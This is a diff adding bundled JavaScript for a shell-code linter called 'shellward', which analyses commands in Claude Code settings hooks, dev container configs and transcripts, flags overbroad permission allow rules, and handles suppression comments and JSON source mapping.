+   * severities): a check whose every finding would be dropped is not run at all.
+   */
+  activeChecks(profile) {
+    let list = this.active.get(profile);
+    if (!list) {
+      list = CHECKS.filter((c3) => c3.rules.some((r) => this.severityFor(r.id, { profile }) !== void 0));
+      this.active.set(profile, list);
+    }
+    return list;
+  }
+  /** Parses embedded shell code into views (the tree is freed at once); `undefined` on time-out. */
+  views(code) {
+    const tree = parseBash(this.parser, code, this.options.parseTimeoutMs ?? DEFAULT_PARSE_TIMEOUT_MS);
+    if (!tree) return void 0;
+    try {
+      return buildViews(tree, code);
+    } finally {
+      tree.delete();
+    }
+  }
+  /**
+   * {@link lintUnit} plus the permission decision of the unit, from one parse. `policy` replaces
+   * the linter's own policy for this unit (the `check` command merges a request's rules into it).
+   * Never throws.
+   */
+  analyse(unit, policy = this.policy) {
+    try {
+      return this.analyseOrThrow(unit, policy);
+    } catch (err2) {
+      const index = this.lineIndex(unit.hostText);
+      const range2 = spanToRange({ start: 0, end: Math.min(unit.text.length, 1) }, unit.sourceMap, index);
+      const message4 = `Analysis failed: ${err2 instanceof Error ? err2.message : String(err2)}`;
+      const severity = this.severityFor(INTERNAL_ERROR.id, unit) ?? "error";
+      return { diagnostics: [{ ruleId: INTERNAL_ERROR.id, severity, message: message4, file: unit.origin.file, range: range2 }], decision: () => void 0 };
+    }
+  }
+  analyseOrThrow(unit, policy) {
+    const out2 = [];
+    let misparsing = false;
+    let securityAsk = false;
+    const index = this.lineIndex(unit.hostText);
+    const place = (f) => {
+      const severity = this.severityFor(f.ruleId, unit, f.severity);
+      if (!severity) return;
+      const claudeCode = ruleMeta(f.ruleId)?.claudeCode;
+      if (claudeCode !== void 0) securityAsk = true;
+      if (f.data?.misparsing === true || f.data?.misparsing === void 0 && claudeCode?.misparsing === true) misparsing = true;
+      const range2 = spanToRange(f.span, unit.sourceMap, index);
+      out2.push({ ruleId: f.ruleId, severity, message: f.message, file: unit.origin.file, range: range2, ...f.data ? { data: f.data } : {} });
+    };
+    const tree = parseBash(this.parser, unit.text, this.options.parseTimeoutMs ?? DEFAULT_PARSE_TIMEOUT_MS);
+    if (!tree) {
+      place({
+        ruleId: INTERNAL_ERROR.id,
+        message: `Parsing took longer than ${this.options.parseTimeoutMs ?? DEFAULT_PARSE_TIMEOUT_MS} ms and was stopped; this code was not analysed.`,
+        span: { start: 0, end: Math.min(unit.text.length, 1) }
+      });
+      return { diagnostics: out2, decision: () => void 0 };
+    }
+    let decision;
+    try {
+      const parsed = withEmbedded(buildViews(tree, unit.text), unit.text, (code) => this.views(code));
+      const cwd = unit.context?.cwd;
+      const paths = pathContextFor(unit, policy, this.options.pathHost ?? { home: homedir3() });
+      const bare = paths?.cwd !== void 0 && paths.host.isBareRepository?.(paths.cwd) === true;
+      const base = {
+        ...cwd !== void 0 ? { cwd } : {},
+        ...paths ? { paths } : {},
+        ...bare ? { bareRepository: true } : {},
+        // A mode the transcript recorded for this call wins over the configured one.
+        ...recordedMode(unit) ?? this.options.mode ? { mode: recordedMode(unit) ?? this.options.mode } : {}
+      };
+      let ungated;
+      const ctx = {
+        unit,
+        parsed,
+        policy,
+        decision: () => ungated ??= decide(unit.text, parsed, policy, base),
+        report: place
+      };
+      for (const check3 of this.activeChecks(unit.profile)) {
+        try {
+          check3.run(ctx);
+        } catch (err2) {
+          place({
+            ruleId: INTERNAL_ERROR.id,
+            message: `Check \`${check3.name}\` failed: ${err2 instanceof Error ? err2.message : String(err2)}`,
+            span: { start: 0, end: Math.min(unit.text.length, 1) }
+          });
+        }
+      }
+      let gated;
+      decision = () => {
+        try {
+          gated ??= misparsing || securityAsk ? decide(unit.text, parsed, policy, { ...base, misparsing, securityAsk }) : ctx.decision();
+          return gated;
+        } catch {
+          return void 0;
+        }
+      };
+    } finally {
+      tree.delete();
+    }
+    return { diagnostics: out2, decision: decision ?? (() => void 0) };
+  }
+};
+function compareDiagnostics(a2, b) {
+  return (a2.file < b.file ? -1 : a2.file > b.file ? 1 : 0) || a2.range.start.line - b.range.start.line || a2.range.start.column - b.range.start.column || SEVERITY_RANK[a2.severity] - SEVERITY_RANK[b.severity] || (a2.ruleId < b.ruleId ? -1 : a2.ruleId > b.ruleId ? 1 : 0) || (a2.message < b.message ? -1 : a2.message > b.message ? 1 : 0);
+}
+function finishFile(hostText, pending) {
+  const sorted = [...pending].sort(compareDiagnostics);
+  const index = new LineIndex(hostText);
+  const hashes = sorted.map((d) => {
+    const start2 = index.lineStart(d.range.start.line);
+    const end = index.lineStart(d.range.start.line + 1);
+    const line = d.range.start.line < index.lineCount ? hostText.slice(start2, end) : hostText.slice(start2);
+    return lineHash(d.ruleId, line);
+  });
+  const fps = numberFingerprints(hashes);
+  return sorted.map((d, i3) => ({ ...d, fingerprint: fps[i3] }));
+}
+
+// src/sources/source-map.ts
+var IdentityMap = class {
+  /** @param base host offset of unit offset 0 */
+  constructor(base = 0) {
+    this.base = base;
+  }
+  base;
+  toHost(offset) {
+    return this.base + offset;
+  }
+};
+var SegmentMap = class {
+  segments;
+  /** @param segments non-overlapping, sorted by `unitStart`; at least one. Throws on none. */
+  constructor(segments) {
+    if (segments.length === 0) throw new Error("SegmentMap needs at least one segment");
+    this.segments = segments;
+  }
+  toHost(offset) {
+    const segs = this.segments;
+    let lo = 0;
+    let hi = segs.length - 1;
+    while (lo < hi) {
+      const mid = lo + hi + 1 >> 1;
+      if ((segs[mid]?.unitStart ?? 0) <= offset) lo = mid;
+      else hi = mid - 1;
+    }
+    const s = segs[lo];
+    const delta = offset - s.unitStart;
+    if (delta < 0) return s.hostStart;
+    return s.hostStart + Math.min(delta, s.length);
+  }
+};
+
+// src/config/json-locate.ts
+var MAX_DEPTH = 64;
+function locateJsonValue(text, path6) {
+  let i3 = 0;
+  let found;
+  const ws = () => {
+    while (i3 < text.length && " 	\r\n\uFEFF".includes(text[i3])) i3++;
+  };
+  const str2 = () => {
+    if (text[i3] !== '"') return void 0;
+    const start2 = i3++;
+    while (i3 < text.length && text[i3] !== '"') i3 += text[i3] === "\\" ? 2 : 1;
+    if (i3 >= text.length) return void 0;
+    i3++;
+    try {
+      return JSON.parse(text.slice(start2, i3));
+    } catch {
+      return void 0;
+    }
+  };
+  const value = (depth, onPath) => {
+    if (depth > MAX_DEPTH) return false;
+    ws();
+    const start2 = i3;
+    const c3 = text[i3];
+    let ok;
+    if (c3 === "{") {
+      i3++;
+      ws();
+      ok = true;
+      if (text[i3] === "}") i3++;
+      else {
+        for (; ; ) {
+          ws();
+          const key = str2();
+          if (key === void 0) return false;
+          ws();
+          if (text[i3] !== ":") return false;
+          i3++;
+          if (!value(depth + 1, onPath && depth < path6.length && path6[depth] === key)) return false;
+          ws();
+          if (text[i3] === ",") {
+            i3++;
+            continue;
+          }
+          if (text[i3] === "}") {
+            i3++;
+            break;
+          }
+          return false;
+        }
+      }
+    } else if (c3 === "[") {
+      i3++;
+      ws();
+      ok = true;
+      if (text[i3] === "]") i3++;
+      else {
+        for (let n2 = 0; ; n2++) {
+          if (!value(depth + 1, onPath && depth < path6.length && path6[depth] === n2)) return false;
+          ws();
+          if (text[i3] === ",") {
+            i3++;
+            continue;
+          }
+          if (text[i3] === "]") {
+            i3++;
+            break;
+          }
+          return false;
+        }
+      }
+    } else if (c3 === '"') {
+      ok = str2() !== void 0;
+    } else {
+      const m = /^(?:true|false|null|-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?)/.exec(text.slice(i3, i3 + 64));
+      ok = m !== null;
+      if (m) i3 += m[0].length;
+    }
+    if (ok && onPath && depth === path6.length) found = { start: start2, end: i3 };
+    return ok;
+  };
+  return value(0, true) ? found : void 0;
+}
+
+// src/config/policy-lint.ts
+var CODE_RUNNERS = /* @__PURE__ */ new Set([...permissions_default.codeExecutionPrefixes, ...permissions_default.bareShellPrefixes, ...Object.keys(wrappers_default.wrappers)]);
+var ONE_OPTION = /^-[A-Za-z]{1,3}$|^--(eval|print|command|exec)$/;
+function overbroadReason(rule) {
+  const m = rule.bash;
+  if (!m || rule.behavior !== "allow") return void 0;
+  let head;
+  if (m.kind === "any") return "it allows every Bash command";
+  if (m.kind === "exact") return void 0;
+  if (m.kind === "prefix") head = m.prefix.trim();
+  else head = m.segments[0].trim();
+  if (head === "") return "it matches every command";
+  const words = head.split(/\s+/);
+  const two = words.slice(0, 2).join(" ");
+  if (words.length <= 2 && CODE_RUNNERS.has(two)) return `\`${two}\` runs whatever code it is given`;
+  if (CODE_RUNNERS.has(words[0]) && (words.length === 1 || words.length === 2 && ONE_OPTION.test(words[1]))) {
+    return `\`${words[0]}\` runs whatever code it is given`;
+  }
+  return void 0;
+}
+function pathOf(p) {
+  const out2 = [];
+  for (const m of p.matchAll(/([^.[\]]+)|\[(\d+)\]/g)) out2.push(m[2] !== void 0 ? Number(m[2]) : m[1]);
+  return out2;
+}
+function overbroadAllowFindings(policy, texts, jsonRoots = /* @__PURE__ */ new Map(), severity = "warning") {
+  const out2 = /* @__PURE__ */ new Map();
+  for (const rule of policy.allow) {
+    const why = overbroadReason(rule);
+    if (!why) continue;
+    const file = rule.origin.file;
+    const text = texts.get(file) ?? "";
+    const span = rule.origin.path ? locateJsonValue(text, [...jsonRoots.get(file) ?? [], ...pathOf(rule.origin.path)]) : void 0;
+    const range2 = spanToRange(span ?? { start: 0, end: 0 }, new IdentityMap(), new LineIndex(text));
+    const list = out2.get(file) ?? [];
+    list.push({
+      ruleId: POLICY_OVERBROAD_ALLOW.id,
+      severity,
+      message: `Allow rule \`${rule.raw}\` admits arbitrary code: ${why}. Allow specific commands instead, or move it to \`ask\`.`,
+      file,
+      range: range2,
+      data: { rule: rule.raw, ...rule.origin.path ? { path: rule.origin.path } : {} }
+    });
+    out2.set(file, list);
+  }
+  return out2;
+}
+function policyFileResults(resolved2, severity) {
+  const texts = new Map(resolved2.sources.map((s) => [s.file, s.json ? s.text : ""]));
+  const roots = new Map(resolved2.sources.filter((s) => s.jsonRoot).map((s) => [s.file, s.jsonRoot]));
+  return [...overbroadAllowFindings(resolved2.policy, texts, roots, severity)].map(([file, pending]) => ({
+    file,
+    diagnostics: finishFile(texts.get(file) ?? "", pending)
+  }));
+}
+
+// src/runner.ts
+var import_picomatch3 = __toESM(require_picomatch2(), 1);
+import { open, readFile as readFile3, stat as stat4 } from "node:fs/promises";
+
+// src/suppress.ts
+var DIRECTIVE_MARKER = "shellward-disable";
+function mayHaveDirectives(text) {
+  return text.includes(DIRECTIVE_MARKER) || text.includes("shellcheck");
+}
+var SHELLCHECK = /^#\s*shellcheck\s+(?:[a-z-]+=\S*\s+)*disable=((?:SC)?\d{4}(?:\s*,\s*(?:SC)?\d{4})*)/i;
+var DIRECTIVE = /^#\s*(shellward-disable[A-Za-z-]*)(?=\s|$)(.*)$/s;
+function parseDirectives(text, comments) {
+  const out2 = [];
+  let index;
+  for (const span of comments) {
+    const raw = text.slice(span.start, span.end).replace(/\r$/, "");
+    const sc = SHELLCHECK.exec(raw);
+    if (sc) {
+      index ??= new LineIndex(text);
+      const start3 = index.position(span.start);
+      const codes = sc[1].split(",").map((c3) => c3.trim().toUpperCase()).map((c3) => c3.startsWith("SC") ? c3 : `SC${c3}`);
+      const lineStart = text.lastIndexOf("\n", span.start - 1) + 1;
+      const alone = text.slice(lineStart, span.start).trim() === "";
+      out2.push({ kind: "shellcheck", name: "shellcheck disable", ruleIds: codes, reason: "shellcheck", line: start3.line, alone, range: { start: start3, end: index.position(span.start + raw.length) } });
+      continue;
+    }
+    const m = DIRECTIVE.exec(raw);
+    if (!m) continue;
+    const name2 = m[1];
+    const rest = m[2];
+    const kind = name2 === "shellward-disable-next-line" ? "next-line" : name2 === "shellward-disable-line" ? "line" : name2 === "shellward-disable-file" ? "file" : void 0;
+    const sep5 = /(?:^|\s)--(?:\s|$)/.exec(rest);
+    const idsText = sep5 ? rest.slice(0, sep5.index) : rest;
+    const reason = sep5 ? rest.slice(sep5.index + sep5[0].length).trim() : void 0;
+    const ruleIds = idsText.split(/[\s,]+/).filter((s) => s !== "");
+    index ??= new LineIndex(text);
+    const start2 = index.position(span.start);
+    const end = index.position(span.start + raw.length);
+    out2.push({ kind, name: name2, ruleIds, reason, line: start2.line, range: { start: start2, end } });
+  }
+  return out2;
+}
+function makefileCommentSpans(text) {
+  const out2 = [];
+  let start2 = 0;
+  while (start2 <= text.length) {
+    let end = text.indexOf("\n", start2);
+    if (end === -1) end = text.length;
+    const line = text.slice(start2, end);
+    const hash = line.search(/\S/);
+    if (hash !== -1 && line[hash] === "#") out2.push({ start: start2 + hash, end });
+    start2 = end + 1;
+  }
+  return out2;
+}
+var UNSUPPRESSIBLE = /* @__PURE__ */ new Set([SUPPRESSION_INVALID.id, SUPPRESSION_UNUSED.id]);
+function applySuppressions(file, diagnostics, directives, rules) {
+  if (directives.length === 0) return [...diagnostics];
+  const own = [];
+  const report2 = (ruleId, range2, message4) => {
+    const severity = rules.severity(ruleId);
+    if (severity) own.push({ ruleId, severity, message: message4, file, range: range2 });
+  };
+  const active = [];
+  for (const d of directives) {
+    if (d.kind === "shellcheck") {
+      for (const code of d.ruleIds) for (const id of rules.shellcheck?.(code) ?? []) active.push({ d, id, used: true });
+      continue;
+    }
+    if (d.kind === void 0) {
+      report2(SUPPRESSION_INVALID.id, d.range, `Unknown directive \`${d.name}\`; use \`shellward-disable-line\`, \`shellward-disable-next-line\` or \`shellward-disable-file\`.`);
+      continue;
+    }
+    if (d.ruleIds.length === 0) {
+      report2(SUPPRESSION_INVALID.id, d.range, `\`${d.name}\` names no rule id; write \`# ${d.name} <rule-id> -- <reason>\`.`);
+      continue;
+    }
+    if (!d.reason) {
+      report2(SUPPRESSION_INVALID.id, d.range, `\`${d.name}\` gives no reason, so it suppresses nothing; add \` -- <why this is safe>\`.`);
+      continue;
+    }
+    for (const name2 of d.ruleIds) {
+      const id = rules.resolve ? rules.resolve(name2) ?? name2 : name2;
+      if (UNSUPPRESSIBLE.has(id)) report2(SUPPRESSION_INVALID.id, d.range, `\`${name2}\` cannot be suppressed.`);
+      else if (!rules.known(id)) report2(SUPPRESSION_INVALID.id, d.range, `Unknown rule id \`${name2}\` in \`${d.name}\`.`);
+      else active.push({ d, id, used: false });
+    }
+  }
+  const kept = diagnostics.filter((diag) => {
+    let suppressed = false;
+    for (const a2 of active) {
+      if (a2.id !== diag.ruleId) continue;
+      const line = diag.range.start.line;
+      const hit = a2.d.kind === "file" || a2.d.kind === "next-line" && line === a2.d.line + 1 || a2.d.kind === "line" && line === a2.d.line || a2.d.kind === "shellcheck" && line === (a2.d.alone ? a2.d.line + 1 : a2.d.line);
+      if (hit) {
+        a2.used = true;
+        suppressed = true;
+      }
+    }
+    return !suppressed;
+  });
+  for (const a2 of active) {
+    if (a2.used || rules.severity(a2.id) === void 0) continue;
+    const where = a2.d.kind === "file" ? "in this file" : `on line ${a2.d.kind === "line" ? a2.d.line : a2.d.line + 1}`;
+    report2(SUPPRESSION_UNUSED.id, a2.d.range, `\`${a2.d.name}\` for \`${a2.id}\` suppresses nothing: no \`${a2.id}\` finding ${where}; remove it.`);
+  }
+  return [...kept, ...own];
+}
+
+// src/sources/kind.ts
+var NOTE_RULE_IDS = {
+  /** Shell code in a shell shellward does not analyse (PowerShell, cmd, Python …). */
+  shellNotAnalysed: "shell-not-analysed",
+  /** A file that is not valid YAML or JSON. */
+  parseError: "source-parse-error",
+  /** A GitHub Actions expression with attacker-controlled text expanded into a `run:` script. */
+  untrustedInput: "untrusted-input-in-run"
+};
+function baseName(path6) {
+  return path6.slice(Math.max(path6.lastIndexOf("/"), path6.lastIndexOf("\\")) + 1);
+}
+function posixPath(path6) {
+  return path6.split("\\").join("/");
 }
 
 // src/sources/mapped-text.ts
@@ -57010,6 +65525,1302 @@ var MappedText = class _MappedText {
   }
 };
 
+// src/sources/transcript/json-text.ts
+function skipWs2(s, i3) {
+  while (i3 < s.length) {
+    const c3 = s.charCodeAt(i3);
+    if (c3 !== 32 && c3 !== 9 && c3 !== 10 && c3 !== 13) break;
+    i3++;
+  }
+  return i3;
+}
+function skipString(s, i3) {
+  let k = i3 + 1;
+  for (; ; ) {
+    const q = s.indexOf('"', k);
+    if (q === -1) return -1;
+    let b = q - 1;
+    while (b > i3 && s.charCodeAt(b) === 92) b--;
+    if ((q - 1 - b) % 2 === 0) return q + 1;
+    k = q + 1;
+  }
+}
+function skipValue(s, i3) {
+  i3 = skipWs2(s, i3);
+  const c3 = s[i3];
+  if (c3 === '"') return skipString(s, i3);
+  if (c3 === "{" || c3 === "[") {
+    let depth = 0;
+    for (let k2 = i3; k2 < s.length; k2++) {
+      const d = s[k2];
+      if (d === '"') {
+        k2 = skipString(s, k2) - 1;
+        if (k2 < 0) return -1;
+      } else if (d === "{" || d === "[") depth++;
+      else if (d === "}" || d === "]") {
+        depth--;
+        if (depth === 0) return k2 + 1;
+      }
+    }
+    return -1;
+  }
+  let k = i3;
+  while (k < s.length && !",]} 	\r\n".includes(s[k])) k++;
+  return k > i3 ? k : -1;
+}
+function locateValue(s, path6) {
+  let i3 = skipWs2(s, 0);
+  for (const step of path6) {
+    const open2 = s[i3];
+    if (typeof step === "string") {
+      if (open2 !== "{") return void 0;
+      let k = skipWs2(s, i3 + 1);
+      let found;
+      while (k < s.length && s[k] !== "}") {
+        if (s[k] !== '"') return void 0;
+        const keyEnd = skipString(s, k);
+        if (keyEnd === -1) return void 0;
+        let key;
+        try {
+          key = JSON.parse(s.slice(k, keyEnd));
+        } catch {
+          return void 0;
+        }
+        k = skipWs2(s, keyEnd);
+        if (s[k] !== ":") return void 0;
+        const vStart = skipWs2(s, k + 1);
+        if (key === step) found = vStart;
+        const vEnd = skipValue(s, vStart);
+        if (vEnd === -1) return void 0;
+        k = skipWs2(s, vEnd);
+        if (s[k] === ",") k = skipWs2(s, k + 1);
+      }
+      if (found === void 0) return void 0;
+      i3 = found;
+    } else {
+      if (open2 !== "[") return void 0;
+      let k = skipWs2(s, i3 + 1);
+      let n2 = 0;
+      let found;
+      while (k < s.length && s[k] !== "]") {
+        if (n2 === step) {
+          found = k;
+          break;
+        }
+        const vEnd = skipValue(s, k);
+        if (vEnd === -1) return void 0;
+        k = skipWs2(s, vEnd);
+        if (s[k] === ",") k = skipWs2(s, k + 1);
+        n2++;
+      }
+      if (found === void 0) return void 0;
+      i3 = found;
+    }
+  }
+  return i3;
+}
+var SIMPLE_ESCAPES = { '"': '"', "\\": "\\", "/": "/", b: "\b", f: "\f", n: "\n", r: "\r", t: "	" };
+function decodeStringAt(src, quote) {
+  const text = typeof src === "string" ? src : src.text;
+  const hostOf = (i3) => typeof src === "string" ? i3 : src.hostAt(i3) ?? 0;
+  if (text[quote] !== '"') return void 0;
+  const out2 = new MappedText();
+  for (let i3 = quote + 1; i3 < text.length; i3++) {
+    const c3 = text[i3];
+    if (c3 === '"') return { value: out2, end: i3 + 1 };
+    if (c3 !== "\\") {
+      out2.push(c3, hostOf(i3));
+      continue;
+    }
+    const e = text[i3 + 1];
+    if (e === void 0) return void 0;
+    if (e === "u") {
+      const hex = text.slice(i3 + 2, i3 + 6);
+      if (!/^[0-9a-fA-F]{4}$/.test(hex)) return void 0;
+      out2.push(String.fromCharCode(parseInt(hex, 16)), hostOf(i3));
+      i3 += 5;
+      continue;
+    }
+    const simple = SIMPLE_ESCAPES[e];
+    if (simple === void 0) return void 0;
+    out2.push(simple, hostOf(i3));
+    i3++;
+  }
+  return void 0;
+}
+function stringAt(src, path6) {
+  const text = typeof src === "string" ? src : src.text;
+  const at = locateValue(text, path6);
+  if (at === void 0) return void 0;
+  return decodeStringAt(src, at)?.value;
+}
+
+// src/sources/json-doc.ts
+function blankJsonc(text) {
+  const out2 = text.split("");
+  let i3 = 0;
+  const n2 = text.length;
+  let lastComma = -1;
+  while (i3 < n2) {
+    const c3 = text[i3];
+    if (c3 === '"') {
+      lastComma = -1;
+      i3++;
+      while (i3 < n2 && text[i3] !== '"') i3 += text[i3] === "\\" ? 2 : 1;
+      i3++;
+      continue;
+    }
+    if (c3 === "/" && text[i3 + 1] === "/") {
+      while (i3 < n2 && text[i3] !== "\n") out2[i3++] = " ";
+      continue;
+    }
+    if (c3 === "/" && text[i3 + 1] === "*") {
+      const end = text.indexOf("*/", i3 + 2);
+      const stop2 = end === -1 ? n2 : end + 2;
+      for (; i3 < stop2; i3++) if (text[i3] !== "\n" && text[i3] !== "\r") out2[i3] = " ";
+      continue;
+    }
+    if (c3 === ",") lastComma = i3;
+    else if ((c3 === "}" || c3 === "]") && lastComma !== -1) {
+      out2[lastComma] = " ";
+      lastComma = -1;
+    } else if (!/\s/.test(c3)) lastComma = -1;
+    i3++;
+  }
+  return out2.join("");
+}
+function parseJson(text, what, jsonc) {
+  const src = jsonc ? blankJsonc(text) : text;
+  try {
+    return { value: JSON.parse(src), text: src };
+  } catch (err2) {
+    const msg = err2 instanceof Error ? err2.message : String(err2);
+    const pos = /position (\d+)/.exec(msg);
+    const at = pos ? Math.min(Number(pos[1]), Math.max(text.length - 1, 0)) : 0;
+    return { error: { ruleId: NOTE_RULE_IDS.parseError, message: `The ${what} cannot be parsed as JSON (${msg.replace(/ in JSON at position \d+.*$/, "").replace(/\s*\(line \d+ column \d+\)$/, "")}); its shell code was not checked.`, span: { start: at, end: Math.min(at + 1, text.length) } } };
+  }
+}
+function jsonString(parsed, path6) {
+  return stringAt(parsed.text, path6);
+}
+function object(v) {
+  return typeof v === "object" && v !== null && !Array.isArray(v) ? v : void 0;
+}
+
+// src/sources/units.ts
+function mappedUnit(file, hostText, code, dialect, profile, granularity, emptyHost = 0) {
+  return {
+    text: code.text,
+    hostText,
+    dialect,
+    granularity,
+    profile,
+    origin: { file, kind: "script" },
+    sourceMap: code.toSourceMap(emptyHost)
+  };
+}
+
+// src/sources/kinds/claude-settings.ts
+function isClaudeSettingsPath(path6) {
+  return /(?:^|\/)\.claude\/settings(?:\.local)?\.json$/.test(posixPath(path6));
+}
+function extractSettings(text, ctx) {
+  const parsed = parseJson(text, "Claude Code settings file", false);
+  if (parsed.error) return { units: [], notes: [{ ...parsed.error, ruleId: NOTE_RULE_IDS.parseError }] };
+  const root = object(parsed.value) ?? {};
+  const units = [];
+  const add = (path6) => {
+    const code = jsonString(parsed, path6);
+    if (code && code.text.trim() !== "") units.push({ unit: mappedUnit(ctx.file, text, code, "bash", ctx.profile, "command", code.hostAt(0) ?? 0), kind: "settings-hook" });
+  };
+  for (const [event, groups] of Object.entries(object(root.hooks) ?? {})) {
+    if (!Array.isArray(groups)) continue;
+    groups.forEach((g, gi) => {
+      const hooks = object(g)?.hooks;
+      if (!Array.isArray(hooks)) return;
+      hooks.forEach((h2, hi) => {
+        const hook = object(h2);
+        if (hook && (hook.type === void 0 || hook.type === "command") && typeof hook.command === "string") add(["hooks", event, gi, "hooks", hi, "command"]);
+      });
+    });
+  }
+  const status = object(root.statusLine);
+  if (status && typeof status.command === "string") add(["statusLine", "command"]);
+  return { units, notes: [] };
+}
+var CLAUDE_SETTINGS = {
+  id: "claude-settings",
+  title: "Claude Code settings hooks",
+  read: "text",
+  profileKey: "script",
+  matchesName: (path6) => isClaudeSettingsPath(path6),
+  extract: extractSettings
+};
+
+// src/sources/transcript/argv.ts
+var POSIX_SHELLS = { bash: "bash", sh: "sh", zsh: "zsh", dash: "dash", ksh: "ksh", ash: "sh", busybox: "sh" };
+function basename3(p) {
+  return p.slice(Math.max(p.lastIndexOf("/"), p.lastIndexOf("\\")) + 1).replace(/\.exe$/i, "").toLowerCase();
+}
+function dialectOfShell(program) {
+  return program === void 0 ? void 0 : POSIX_SHELLS[basename3(program)];
+}
+function isApplyPatchScript(script) {
+  return /^\s*(?:cd\s+\S+\s*&&\s*)?(?:apply_patch|applypatch)\b/.test(script);
+}
+var BARE = /^[A-Za-z0-9_@%+=:,./-]+$/;
+function quoteJoin(argv) {
+  const out2 = new MappedText();
+  argv.forEach((a2, n2) => {
+    const s = a2.text;
+    const first = a2.hostAt(0) ?? 0;
+    if (n2 > 0) out2.push(" ", first);
+    if (s !== "" && BARE.test(s)) {
+      for (let i3 = 0; i3 < a2.length; i3++) out2.pushFrom(a2, i3);
+      return;
+    }
+    out2.push("'", first);
+    for (let i3 = 0; i3 < a2.length; i3++) {
+      if (s[i3] === "'") {
+        const h2 = a2.hostAt(i3) ?? first;
+        for (const ch of "'\\''") out2.push(ch, h2);
+      } else out2.pushFrom(a2, i3);
+    }
+    out2.push("'", a2.hostAt(a2.length - 1) ?? first);
+  });
+  return out2;
+}
+function argvToShell(argv, defaultDialect = "bash") {
+  if (argv.length === 0) return void 0;
+  const prog = basename3(argv[0].text);
+  if (prog === "apply_patch" || prog === "applypatch") return { kind: "edit" };
+  const dialect = POSIX_SHELLS[prog];
+  if (dialect) {
+    let i3 = prog === "busybox" && argv[1]?.text === "sh" ? 2 : 1;
+    for (; i3 < argv.length; i3++) {
+      const f = argv[i3].text;
+      if (!f.startsWith("-") || f === "--") break;
+      if (/^-[A-Za-z]*c[A-Za-z]*$/.test(f)) {
+        const script = argv[i3 + 1];
+        if (!script) break;
+        if (isApplyPatchScript(script.text)) return { kind: "edit" };
+        return { kind: "script", text: script, dialect, directExec: false };
+      }
+    }
+  }
+  if (prog === "pwsh" || prog === "powershell" || prog === "cmd") return { kind: "foreign", shell: prog };
+  return { kind: "script", text: quoteJoin(argv), dialect: defaultDialect, directExec: true };
+}
+
+// src/sources/kinds/devcontainer.ts
+var COMMANDS2 = ["initializeCommand", "onCreateCommand", "updateContentCommand", "postCreateCommand", "postStartCommand", "postAttachCommand"];
+function isDevcontainerPath(path6) {
+  const p = posixPath(path6);
+  const b = baseName(p);
+  return b === ".devcontainer.json" || /(?:^|\/)\.devcontainer\/(?:[^/]+\/)?devcontainer\.json$/.test(p);
+}
+function extractDevcontainer(text, ctx) {
+  const parsed = parseJson(text, "dev container configuration", true);
+  if (parsed.error) return { units: [], notes: [parsed.error] };
+  const root = object(parsed.value) ?? {};
+  const units = [];
+  const notes = [];
+  const one = (value, path6) => {
+    if (typeof value === "string") {
+      const code = jsonString(parsed, path6);
+      if (code && code.text.trim() !== "") units.push({ unit: mappedUnit(ctx.file, text, code, "sh", ctx.profile, "command", code.hostAt(0) ?? 0), kind: "devcontainer-command" });
+      return;
+    }
+    if (Array.isArray(value)) {
+      const argv = [];
+      for (let i3 = 0; i3 < value.length; i3++) {
+        const a2 = typeof value[i3] === "string" ? jsonString(parsed, [...path6, i3]) : void 0;
+        if (!a2) return;
+        argv.push(a2);
+      }
+      const sh = argvToShell(argv, "sh");
+      if (!sh || sh.kind === "edit") return;
+      if (sh.kind === "foreign") {
+        const at = argv[0].hostAt(0) ?? 0;
+        notes.push({ ruleId: NOTE_RULE_IDS.shellNotAnalysed, message: `\`${path6.join(".")}\` runs \`${sh.shell}\`, not a POSIX shell: it was not analysed.`, span: { start: at, end: at + 1 }, data: { shell: sh.shell } });
+        return;
+      }
+      const unit = mappedUnit(ctx.file, text, sh.text, sh.dialect, ctx.profile, "command", argv[0].hostAt(0) ?? 0);
+      units.push({ unit: sh.directExec ? { ...unit, context: { directExec: true } } : unit, kind: "devcontainer-command" });
+    }
+  };
+  for (const key of COMMANDS2) {
+    const v = root[key];
+    const obj = object(v);
+    if (obj) for (const [name2, c3] of Object.entries(obj)) one(c3, [key, name2]);
+    else one(v, [key]);
+  }
+  return { units, notes };
+}
+var DEVCONTAINER = {
+  id: "devcontainer",
+  title: "dev container configuration",
+  read: "text",
+  profileKey: "script",
+  matchesName: (path6) => isDevcontainerPath(path6),
+  extract: extractDevcontainer
+};
+
+// src/sources/script.ts
+var EXTENSIONS = {
+  ".sh": "sh",
+  ".bash": "bash",
+  ".bats": "bash",
+  ".ksh": "ksh",
+  ".zsh": "zsh"
+};
+var SHELLS3 = {
+  sh: "sh",
+  bash: "bash",
+  dash: "dash",
+  ksh: "ksh",
+  mksh: "ksh",
+  ksh93: "ksh",
+  zsh: "zsh",
+  ash: "sh",
+  busybox: "sh"
+};
+function dialectFromShebang(firstLine) {
+  if (!firstLine.startsWith("#!")) return void 0;
+  const words = firstLine.slice(2).trim().split(/[ \t]+/);
+  let prog = words[0] ?? "";
+  let i3 = 1;
+  if (prog.endsWith("/env") || prog === "env") {
+    while (i3 < words.length && (words[i3].startsWith("-") || /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[i3]))) i3++;
+    prog = words[i3] ?? "";
+  }
+  const base = prog.slice(prog.lastIndexOf("/") + 1);
+  return SHELLS3[base];
+}
+function dialectFromPath(path6) {
+  const dot = path6.lastIndexOf(".");
+  const slash = Math.max(path6.lastIndexOf("/"), path6.lastIndexOf("\\"));
+  if (dot <= slash + 1) return void 0;
+  return EXTENSIONS[path6.slice(dot).toLowerCase()];
+}
+function detectShellScript(path6, head) {
+  const nl = head.indexOf("\n");
+  const first = (nl === -1 ? head : head.slice(0, nl)).replace(/^\uFEFF/, "").replace(/\r$/, "");
+  return dialectFromShebang(first) ?? dialectFromPath(path6);
+}
+var utf8 = new TextDecoder("utf-8", { fatal: true, ignoreBOM: false });
+var lossyUtf8 = new TextDecoder("utf-8", { fatal: false, ignoreBOM: false });
+function decodeText(bytes) {
+  const nul = bytes.subarray(0, 8192).indexOf(0);
+  if (nul !== -1) return { ok: false, reason: "binary file (contains NUL bytes)", offset: nul };
+  try {
+    return { ok: true, text: utf8.decode(bytes) };
+  } catch {
+    return { ok: true, text: lossyUtf8.decode(bytes), invalidAt: firstInvalidUtf8(bytes) };
+  }
+}
+function firstInvalidUtf8(b) {
+  let i3 = 0;
+  while (i3 < b.length) {
+    const c3 = b[i3];
